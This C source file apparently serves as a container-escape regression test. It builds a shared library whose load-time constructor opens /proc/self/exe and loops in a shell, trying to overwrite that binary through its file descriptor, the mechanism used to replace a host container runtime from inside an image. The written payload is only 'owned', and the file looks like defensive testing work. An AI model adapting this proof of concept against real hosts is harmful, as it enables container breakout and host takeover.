/* SPDX-License-Identifier: Apache-2.0 */
/* A library that an image gives to whatever program starts in it: keeps that program's file, to overwrite it. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static void evil(void) __attribute__((constructor));
static void evil(void)
{
	char script[256];
	int fd = open("/proc/self/exe", O_PATH);

	/* The file is busy until the last process that executes it is gone: keep trying. */
	(void)snprintf(script, sizeof(script),
	               "echo loaded; i=0; while [ $i -lt 20 ]; do echo owned 2>/dev/null >/proc/self/fd/%d && break; "
	               "i=$((i+1)); sleep 0.1; done; echo over",
	               fd);
	(void)execl("/bin/sh", "sh", "-c", script, (char *)NULL);
}
